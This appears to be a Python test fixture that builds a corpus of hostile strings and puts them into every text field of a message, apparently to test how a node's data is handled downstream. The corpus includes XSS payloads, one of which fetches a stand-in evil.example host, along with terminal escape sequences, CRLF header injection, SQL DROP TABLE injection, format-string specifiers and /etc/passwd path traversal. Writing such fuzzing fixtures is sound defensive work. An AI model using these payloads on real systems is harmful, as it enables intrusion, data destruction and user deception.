"""Hostile text for every field that a node sends."""

from __future__ import annotations

from typing import Any

MARK = "Canary9"


CORPUS = [
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=\"fetch('//evil.example/{MARK}')\">",
    f'"><svg/onload=alert(`{MARK}`)>',
    f"javascript:alert('{MARK}')",
    f"{{{{constructor.constructor('alert(1)')()}}}} {MARK} ${{7*7}}",
    f"\x1b]8;;http://evil.example\x07{MARK}\x1b]8;;\x07",
    f"\x1b]52;c;ZXZpbA==\x07\x1b]0;{MARK}\x07\x1b[2J\x9b31m\x90{MARK}\x9c",
    f"{MARK}\u202egnp.exe\u2066\u200b\ufeff\U000e0041",
    f'{MARK}\r\nSet-Cookie: stardust-plain=evil\r\n\r\n{{"event": "{MARK}"}}\u2028\x85',
    f"{MARK}'; DROP TABLE node; --\x00\\",
    f"{MARK}%s%n%n../../../etc/passwd",
    MARK + "A" * 6_000,
]
"""Hostile texts: for pages, terminals, readers, logs, databases, paths and memories."""


def filled(message: Any, text: str) -> Any:
    """A message with this in every field that holds texts."""
    changes: dict[str, Any] = {}
    for name, value in zip(message._fields, message, strict=True):
        if isinstance(value, str):
            changes[name] = text
        elif isinstance(value, list) and all(isinstance(item, str) for item in value):
            changes[name] = [text] * max(1, len(value))
    return message._replace(**changes)
